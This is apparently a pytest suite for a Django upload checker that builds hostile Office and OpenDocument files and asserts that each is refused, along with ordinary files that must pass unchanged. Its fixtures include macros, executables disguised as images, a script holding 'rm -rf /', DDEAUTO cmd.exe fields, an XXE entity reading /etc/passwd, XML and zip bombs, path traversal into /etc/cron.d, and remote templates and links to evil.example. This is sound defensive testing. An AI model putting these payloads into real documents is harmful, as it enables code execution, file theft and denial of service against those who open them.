"""Office documents with macros, programs, fetched parts or bombs are refused; ordinary ones are taken as they are."""

import io
import struct
import zipfile

import openpyxl
import pytest
from django.core.files.base import ContentFile
from openpyxl.chart import LineChart, Reference
from openpyxl.drawing.image import Image

from core.uploads.documents import checked_document
from core.uploads.refusals import UploadRefused
from tests.core.made.packages import (
    BOMB,
    EXE,
    MAIN,
    OLE,
    docx,
    field,
    odf,
    odf_parts,
    office,
    office_parts,
    overlapping,
    override,
    patched,
    relation,
    relations,
    zipped,
)
from tests.core.made.pictures import picture

MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
EXCEL_MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
POINT_MACROS = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
BINARY = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
WORD_TEMPLATE = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
UTF16_BOMB = f'<?xml version="1.0" encoding="UTF-16"?>{BOMB}<l>&c;</l>'.encode("utf-16")


def with_part(name: str, content=b"x", types="", related="", extension="docx") -> bytes:
    return office(extension, more={name: content}, types=types, related=related)


def with_workbook(workbook: bytes) -> bytes:
    """A presentation with a chart's workbook in it."""
    return with_part("ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", workbook, extension="pptx")


def linked(kind: str, target: str, extension="docx") -> bytes:
    return office(extension, related=relation(kind, target, external=True))


HOSTILE = {
    # macros and controls
    "docx: it has macros": ("docx", lambda: with_part("word/vbaProject.bin", OLE), "macros"),
    "docx: it has macros under another name": (
        "docx",
        lambda: with_part(
            "word/image.png", OLE, types=override("word/image.png", "application/vnd.ms-office.vbaProject")
        ),
        "macros",
    ),
    "docx: a relation leads to macros": (
        "docx",
        lambda: office("docx", related=relation(f"{MICROSOFT}/vbaProject", "other.dat")),
        "macros",
    ),
    "docx: it is a .docm by another name": ("docx", lambda: docx(main_type=MACROS), "macros"),
    "xlsx: it is an .xlsm by another name": ("xlsx", lambda: office("xlsx", main_type=EXCEL_MACROS), "macros"),
    "pptx: it is a .pptm by another name": ("pptx", lambda: office("pptx", main_type=POINT_MACROS), "macros"),
    "xlsx: it is an .xlsb by another name": ("xlsx", lambda: office("xlsx", main_type=BINARY), "macros"),
    "xlsx: it has a sheet of old macros": (
        "xlsx",
        lambda: with_part("xl/macrosheets/sheet1.xml", "<x/>", extension="xlsx"),
        "macros",
    ),
    "docx: it has a control": ("docx", lambda: with_part("word/activeX/activeX1.xml", "<x/>"), "controls"),
    "docx: a relation leads to a control": (
        "docx",
        lambda: office("docx", related=relation("control", "x.xml")),
        "controls",
    ),
    "docx: it has an add-in from the web": (
        "docx",
        lambda: with_part("word/webextensions/webextension1.xml", "<x/>"),
        "controls",
    ),
    # files inside
    "docx: it has an object of another program": (
        "docx",
        lambda: with_part("word/embeddings/oleObject1.bin", OLE),
        "embedded",
    ),
    "docx: it has an object by another name": ("docx", lambda: with_part("word/media/image1.png", OLE), "embedded"),
    "docx: one of its pictures is a program": ("docx", lambda: with_part("word/media/image1.png", EXE), "embedded"),
    "docx: one of its pictures is a program for Linux": (
        "docx",
        lambda: with_part("word/media/image1.png", b"\x7fELF" + bytes(60)),
        "embedded",
    ),
    "docx: one of its parts is a script": (
        "docx",
        lambda: with_part("word/media/a.png", b"#!/bin/sh\nrm -rf /"),
        "embedded",
    ),
    "docx: it has an archive inside": ("docx", lambda: with_part("word/a.dat", zipped({"x": "x"})), "embedded"),
    "docx: it has a PDF inside": ("docx", lambda: with_part("word/embeddings/a.bin", b"%PDF-1.7"), "embedded"),
    "docx: it takes in a web page": (
        "docx",
        lambda: with_part("word/a.html", "<script>", related=relation("aFChunk", "a.html")),
        "embedded",
    ),
    "pptx: a chart's workbook has macros": (
        "pptx",
        lambda: with_workbook(with_part("xl/vbaProject.bin", OLE, extension="xlsx")),
        "macros",
    ),
    "pptx: a chart's workbook is an .xlsm": (
        "pptx",
        lambda: with_workbook(office("xlsx", main_type=EXCEL_MACROS)),
        "macros",
    ),
    "pptx: a chart's workbook has a document inside": (
        "pptx",
        lambda: with_workbook(with_part("xl/embeddings/a.docx", docx(), extension="xlsx")),
        "embedded",
    ),
    # things fetched
    "docx: its template comes from the web": (
        "docx",
        lambda: linked("attachedTemplate", "http://evil.example/t.dotm"),
        "template",
    ),
    "docx: its template comes from another computer": (
        "docx",
        lambda: linked("attachedTemplate", "file:///\\\\evil\\share\\t.dotm"),
        "template",
    ),
    "docx: a picture comes from the web": ("docx", lambda: linked("image", "https://evil.example/x.png"), "external"),
    "docx: a frame comes from the web": ("docx", lambda: linked("frame", "https://evil.example/"), "external"),
    "docx: a part of the text comes from elsewhere": (
        "docx",
        lambda: linked("subDocument", "https://evil.example/x.docx"),
        "external",
    ),
    "docx: an object comes from elsewhere": (
        "docx",
        lambda: linked("oleObject", "https://evil.example/x.html!"),
        "embedded",
    ),
    "xlsx: it takes values from another workbook": (
        "xlsx",
        lambda: with_part("xl/externalLinks/externalLink1.xml", "<x/>", extension="xlsx"),
        "external",
    ),
    "xlsx: it takes values from a database": (
        "xlsx",
        lambda: with_part(
            "xl/c.xml",
            "<x/>",
            types=override("xl/c.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"),
            extension="xlsx",
        ),
        "external",
    ),
    "pptx: a film comes from the web": ("pptx", lambda: linked("video", "https://evil.example/x", "pptx"), "external"),
    "docx: a link leads to another computer's files": (
        "docx",
        lambda: linked("hyperlink", "\\\\evil\\share"),
        "link",
    ),
    "docx: a link leads to a file": ("docx", lambda: linked("hyperlink", "file:///C:/Windows/calc.exe"), "link"),
    "docx: a link runs a script": ("docx", lambda: linked("hyperlink", "javascript:alert(1)"), "link"),
    "docx: a link starts a diagnosis tool": ("docx", lambda: linked("hyperlink", "ms-msdt:/id PCWDiagnostic"), "link"),
    # commands in fields
    "docx: a field runs a command": ("docx", lambda: docx(body=field("DDEAUTO c:\\\\cmd.exe")), "commands"),
    "docx: a field runs a command, in pieces": (
        "docx",
        lambda: docx(body=field("PAGE") + field(" D", "DE", " excel x")),
        "commands",
    ),
    "docx: a simple field runs a command": (
        "docx",
        lambda: docx(body='<w:p><w:fldSimple w:instr="dde excel x"/></w:p>'),
        "commands",
    ),
    "docx: a field spells the command in numbers": (
        "docx",
        lambda: docx(body=field("QUOTE 68 68 69 65 85 84 79")),
        "commands",
    ),
    "docx: the head of a page runs a command": (
        "docx",
        lambda: with_part("word/header1.xml", '<h xmlns:w="a"><w:instrText>DDEAUTO x</w:instrText></h>'),
        "commands",
    ),
    # XML
    "docx: its text grows when it is read": (
        "docx",
        lambda: with_part("word/document.xml", f"{BOMB}<l>&c;</l>"),
        "entities",
    ),
    "docx: its text grows when it is read, in UTF-16": (
        "docx",
        lambda: with_part("word/document.xml", UTF16_BOMB),
        "entities",
    ),
    "docx: its list of types reads a file": (
        "docx",
        lambda: with_part("[Content_Types].xml", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'),
        "entities",
    ),
    "docx: its relations declare a type": (
        "docx",
        lambda: with_part("word/_rels/document.xml.rels", f"{BOMB}<Relationships/>"),
        "entities",
    ),
    "xlsx: a sheet declares a type": (
        "xlsx",
        lambda: with_part("xl/worksheets/sheet1.xml", f"{BOMB}<l>&c;</l>", extension="xlsx"),
        "entities",
    ),
    "docx: its text is not XML": ("docx", lambda: with_part("word/document.xml", "<w:document>"), "damaged"),
    "docx: its text is in an encoding there is not": (
        "docx",
        lambda: with_part("word/document.xml", '<?xml version="1.0" encoding="no-such"?><x/>'),
        "damaged",
    ),
    # the package
    "docx: a part unpacks to a thousand times its size": (
        "docx",
        lambda: with_part("word/media/a.bmp", bytes(50_000_000)),
        "bomb",
    ),
    "docx: its parts unpack to 300 MB": (
        "docx",
        lambda: docx(more={f"word/{number}.xml": bytes(1024 * 1024) for number in range(300)}),
        "bomb",
    ),
    "docx: it has twenty thousand parts": (
        "docx",
        lambda: docx(more={f"word/{number}.xml": "" for number in range(20_000)}),
        "bomb",
    ),
    "docx: its parts share their content": ("docx", overlapping, "bomb"),
    "docx: a part says it is smaller than it is": (
        "docx",
        lambda: patched(docx(body="<w:p/>" * 500), "word/document.xml", 24, struct.pack("<I", 90)),
        "damaged",
    ),
    "docx: a part leads out of the folder": ("docx", lambda: with_part("../../etc/cron.d/x"), "damaged"),
    "docx: a part has a path of its own": ("docx", lambda: with_part("/etc/cron.d/x"), "damaged"),
    "docx: a part has a path of Windows": ("docx", lambda: with_part("..\\..\\x.exe"), "damaged"),
    "docx: a part is on a drive": ("docx", lambda: with_part("C:x.exe"), "damaged"),
    "docx: a part is there twice": (
        "docx",
        lambda: zipped([*office_parts("docx").items(), ("WORD/document.xml", "<x/>")]),
        "damaged",
    ),
    "docx: a part has two names": (
        "docx",
        lambda: docx().replace(b"word/document.xml", b"word/documenx.xml", 1),
        "damaged",
    ),
    "docx: a part is locked": (
        "docx",
        lambda: patched(docx(), "word/document.xml", 8, b"\x01\x00", local_offset=6),
        "protected",
    ),
    "docx: a part is packed in a way offices do not": (
        "docx",
        lambda: zipped(office_parts("docx"), zipfile.ZIP_BZIP2),
        "damaged",
    ),
    "docx: something stands before it": ("docx", lambda: EXE + docx(), "content"),
    "docx: an archive stands before it": ("docx", lambda: zipped({"x": "x"}) + docx(), "two_in_one"),
    "docx: something stands behind it": ("docx", lambda: docx() + EXE, "two_in_one"),
    "docx: its archive has a comment": (
        "docx",
        lambda: docx()[:-2] + b"\x08\x00<script>",
        "two_in_one",
    ),
    "docx: its second half is missing": ("docx", lambda: docx()[:400], "damaged"),
    "docx: a byte of its text is wrong": (
        "docx",
        lambda: zipped(office_parts("docx"), zipfile.ZIP_STORED).replace(b"<w:body>", b"<w:bxdy>"),
        "damaged",
    ),
    # something else
    "docx: it is protected by a password, or a .doc": ("docx", lambda: OLE, "protected"),
    "docx: it is a plain archive": ("docx", lambda: zipped({"readme.txt": "x"}), "content"),
    "docx: it is a workbook": ("docx", lambda: office("xlsx"), "content"),
    "docx: it is a template": ("docx", lambda: docx(main_type=WORD_TEMPLATE), "content"),
    "docx: it is an OpenDocument text": ("docx", odf, "content"),
    "docx: it is a web page": ("docx", lambda: b"<html><script>alert(1)</script>", "content"),
    "docx: it names no document": (
        "docx",
        lambda: with_part("_rels/.rels", relations()),
        "content",
    ),
    "docx: it names two documents": (
        "docx",
        lambda: docx(
            types=override("word/second.xml", MAIN["docx"][1]),
            more={
                "word/second.xml": "<x/>",
                "_rels/.rels": relations(
                    relation("officeDocument", "word/document.xml", number=1),
                    relation("officeDocument", "word/second.xml", number=2),
                ),
            },
        ),
        "content",
    ),
    "docx: it is empty": ("docx", lambda: b"", "empty"),
    # OpenDocument
    "odt: it has macros": ("odt", lambda: odf(more={"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    "odt: it has a program in Python": ("odt", lambda: odf(more={"Scripts/python/x.py": "import os"}), "macros"),
    "odt: opening it runs a macro": (
        "odt",
        lambda: odf(scripts='<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
        "macros",
    ),
    "odt: it has a script": ("odt", lambda: odf(body="<text:script>alert(1)</text:script>"), "macros"),
    "odt: it is protected": (
        "odt",
        lambda: odf(
            manifest='<manifest:file-entry manifest:full-path="x"><manifest:encryption-data/></manifest:file-entry>'
        ),
        "protected",
    ),
    "odt: it has an object of another program": (
        "odt",
        lambda: odf(body='<draw:object-ole xlink:href="./Object 1"/>', more={"Object 1": OLE}),
        "embedded",
    ),
    "odt: it has a program inside": ("odt", lambda: odf(more={"Pictures/x.png": EXE}), "embedded"),
    "odt: a picture comes from the web": (
        "odt",
        lambda: odf(body='<draw:image xlink:href="https://evil.example/x.png"/>'),
        "external",
    ),
    "odt: a picture comes from another computer": (
        "odt",
        lambda: odf(body='<draw:image xlink:href="//evil/share/x.png"/>'),
        "external",
    ),
    "odt: a picture's second address hides its first": (
        "odt",
        lambda: odf(body='<draw:image xlink:href="https://evil.example/x.png" href="Pictures/x.png"/>'),
        "external",
    ),
    "odt: its template comes from the web": (
        "odt",
        lambda: odf(meta='<meta:template xlink:href="https://evil.example/t.ott"/>'),
        "external",
    ),
    "odt: it loads another page after a while": (
        "odt",
        lambda: odf(meta='<meta:auto-reload xlink:href="https://evil.example/"/>'),
        "external",
    ),
    "odt: a part of the text comes from elsewhere": (
        "odt",
        lambda: odf(body='<text:section><text:section-source xlink:href="x.odt"/></text:section>'),
        "external",
    ),
    "odt: a frame shows another page": (
        "odt",
        lambda: odf(body='<draw:floating-frame xlink:href="x.html"/>'),
        "external",
    ),
    "odt: a link runs a script": (
        "odt",
        lambda: odf(body='<text:a xlink:href="javascript:alert(1)">x</text:a>'),
        "link",
    ),
    "odt: a link leads to a file": ("odt", lambda: odf(body='<text:a xlink:href="file:///etc/passwd"/>'), "link"),
    "ods: it takes values from another program": (
        "ods",
        lambda: odf("ods", body='<table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link>'),
        "commands",
    ),
    "ods: it takes a table from the web": (
        "ods",
        lambda: odf("ods", body='<table:table><table:table-source xlink:href="https://evil.example"/></table:table>'),
        "external",
    ),
    "odt: its text grows when it is read": (
        "odt",
        lambda: odf(more={"content.xml": f"{BOMB}<l>&c;</l>"}),
        "entities",
    ),
    "odt: it is a spreadsheet": ("odt", lambda: odf("ods"), "content"),
    "odt: it is a template": (
        "odt",
        lambda: odf(mimetype="application/vnd.oasis.opendocument.text-template"),
        "content",
    ),
    "odt: it does not say what it is": (
        "odt",
        lambda: zipped({name: part for name, part in odf_parts().items() if name != "mimetype"}),
        "content",
    ),
    "ods: it is a folder": ("ods", lambda: zipped({"folder/": ""}), "content"),
}


@pytest.mark.parametrize("made", HOSTILE.values(), ids=HOSTILE)
def test_a_document_is_refused_when(made):
    extension, make, code = made
    with pytest.raises(UploadRefused) as refusal:
        checked_document(ContentFile(make(), f"보고서.{extension}"))
    assert refusal.value.code == code
    assert f"보고서.{extension}" in refusal.value.messages[0]


def workbook(change=None) -> bytes:
    book = openpyxl.Workbook()
    book.active.title = "예산"
    for row in (["연도", "금액"], [2019, 100], [2020, 120], ["합계", "=SUM(B2:B3)"]):
        book.active.append(row)
    if change:
        change(book.active)
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def add_picture_and_chart(sheet) -> None:
    sheet.add_image(Image(io.BytesIO(picture("PNG"))), "D1")
    chart = LineChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=2, max_row=3))
    sheet.add_chart(chart, "D9")
    sheet["A9"].hyperlink = "https://www.seoul.go.kr"


GOOD = {
    "docx as Word writes it": (
        "docx",
        lambda: docx(
            body=f"<w:p>본문</w:p>{field(' PAGE ')}{field(' HYPERLINK &quot;https://x.example/hidden&quot; ')}",
            related=relation("hyperlink", "https://www.seoul.go.kr/a?b=1", external=True, number=2)
            + relation("hyperlink", "mailto:library@dwcn.example", external=True, number=3)
            + relation("hyperlink", "#절", external=True, number=4)
            + relation("image", "media/image1.png", number=5),
            more={
                "word/media/image1.png": picture("PNG"),
                "word/settings.xml": "<x/>",
                "word/fonts/font1.odttf": b"MZ" + bytes(40),
                "docProps/core.xml": "<x/>",
                "customXml/item1.xml": "<x/>",
                "customXml/_rels/item1.xml.rels": relations(),
            },
        ),
    ),
    "docx in the strict form": (
        "docx",
        lambda: docx(
            more={
                "_rels/.rels": relations(
                    relation("http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument", MAIN["docx"][0])
                )
            }
        ),
    ),
    "docx with a path from the root": (
        "docx",
        lambda: docx(more={"_rels/.rels": relations(relation("officeDocument", "/word/document.xml"))}),
    ),
    "docx not packed at all": ("docx", lambda: zipped(office_parts("docx"), zipfile.ZIP_STORED)),
    "xlsx by openpyxl with formulas": ("xlsx", workbook),
    "xlsx with a picture, a chart and a link": ("xlsx", lambda: workbook(add_picture_and_chart)),
    "xlsx with settings of a printer and a comment": (
        "xlsx",
        lambda: office(
            "xlsx",
            more={
                "xl/printerSettings/printerSettings1.bin": "HP LaserJet".encode("utf-16-le"),
                "xl/drawings/vmlDrawing1.vml": "<xml><v:shape><br></v:shape></xml>",
            },
        ),
    ),
    "pptx with a chart and its workbook": ("pptx", lambda: with_workbook(workbook())),
    "pptx with a film in it": ("pptx", lambda: with_part("ppt/media/media1.mp4", bytes(99), extension="pptx")),
    "odt as LibreOffice writes it": (
        "odt",
        lambda: odf(
            body='<text:p>본문 <text:a xlink:href="https://www.seoul.go.kr">서울시</text:a>'
            '<draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/></text:p>',
            meta='<meta:template xlink:href="../../../usr/lib/libreoffice/share/template/x.ott"/>',
            more={
                "Pictures/1.png": picture("PNG"),
                "Object 1/content.xml": "<x/>",
                "ObjectReplacements/Object 1": b"VCLMTF",
            },
        ),
    ),
    "ods as LibreOffice writes it": ("ods", lambda: odf("ods", body="<table:table>표</table:table>")),
}


@pytest.mark.parametrize("made", GOOD.values(), ids=GOOD)
def test_a_document_is_taken_as_it_is(made):
    extension, make = made
    content = make()
    kept = checked_document(ContentFile(content, f"서울 생활임금 (2019.12.03).{extension.upper()}"))
    assert kept.read() == content
    assert kept.name == f"서울_생활임금_2019.12.03.{extension}"
